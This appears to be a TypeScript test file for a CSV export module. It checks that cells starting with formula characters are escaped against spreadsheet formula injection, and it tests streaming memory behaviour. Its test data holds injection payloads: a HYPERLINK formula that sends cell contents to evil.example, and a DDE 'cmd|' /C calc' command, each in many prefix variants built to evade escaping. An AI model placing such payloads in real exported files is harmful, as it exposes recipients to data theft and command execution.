import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { expect, it, vi } from 'vitest';
import { csvOf, csvStream } from './csv.ts';

it.each([
  ['Ana Marlow', 'Ana Marlow'],
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['Marlow, Ana', '"Marlow, Ana"'],
  ['Ana "the oar"', '"Ana ""the oar"""'],
  ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
  ['two\nlines', '"two\nlines"'],
  ['\t=1', `"'\t=1"`],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['Ana;=1+1', '"Ana;=1+1"'],
])('writes %j as %s', (value, cell) => expect(csvOf([[value, 'going']])).toBe(`\ufeff${cell},going\r\n`));

/** Parses cells as a spreadsheet with this separator does: RFC 4180, independent of the code that writes them. */
function read(file: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const text = file.replace(/^\ufeff/, '');
  for (let at = 0; at < text.length; ) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[(at += 1)];
        else break;
      }
      at += 1;
    }
    while (at < text.length && text[at] !== separator && !text.startsWith('\r\n', at) && text[at] !== '\n') cell += text[at++];
    rows.at(-1)!.push(cell);
    if (text[at] === separator) at += 1;
    else {
      at += text.startsWith('\r\n', at) ? 2 : 1;
      if (at < text.length) rows.push([]);
    }
  }
  return rows;
}

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '"=',
  '";=',
  '",=',
  "'=",
  ';=',
  '|=',
  ',=',
  '\t=',
  '\n=',
  '\r\n=',
];
const hostile = signs.flatMap((sign) => [
  `${sign}HYPERLINK("https://evil.example?"&A1,"x")`,
  `Ana${sign}cmd|' /C calc'!A0`,
  `Ana "${sign}1+1"`,
]);

it.each([',', ';', '\t', '|'])('has no cell that is a formula, in spreadsheets that separate cells by %j [EVENT-87]', (separator) => {
  for (const value of hostile) {
    const rows = read(
      csvOf([
        ['Name', 'Status'],
        [value, 'going'],
      ]),
      separator,
    );
    expect(rows, value).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(value)).not.toMatch(/^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
  }
});

it('is read back as it was written, but for the apostrophe', () => {
  for (const value of hostile) {
    const [[name, status]] = read(csvOf([[value, 'going']]), ',') as [[string, string]];
    expect([name === value || name === `'${value}`, status]).toEqual([true, 'going']);
  }
});

it('is made as it is read: while a reader rests nothing is read for them, and the rows before are let go', async () => {
  setFlagsFromString('--expose-gc');
  const collect = runInNewContext('gc') as () => void;
  const read: Array<WeakRef<object>> = [];
  const file = csvStream(['n', 'name'], async () => {
    const rows = read.length < 5 ? Array.from({ length: 1000 }, (_, n) => [`${read.length}-${n}`, 'x'.repeat(60)]) : [];
    read.push(new WeakRef(rows));
    return rows;
  });
  const chunks = file[Symbol.asyncIterator]() as AsyncIterator<Buffer>;
  let text = '';
  while (!text.includes('0-999,')) text += (await chunks.next()).value;
  // A stream buffers less than one of these parts, so it has read the next part and no more.
  await vi.waitFor(() => expect(read).toHaveLength(2), 60_000);
  await new Promise(setImmediate);
  collect();
  expect(read.map((each) => each.deref())).toEqual([undefined, undefined]);
  for (let each = await chunks.next(); !each.done; each = await chunks.next()) text += each.value;
  expect(text.split('\r\n')).toHaveLength(5002);
  expect(text.slice(1).startsWith('n,name\r\n0-0,x')).toBe(true);
});

it('ends with the fault of what makes it', async () => {
  const file = csvStream(['n'], () => Promise.reject(new Error('No database')));
  await expect(file.toArray()).rejects.toThrow('No database');
});
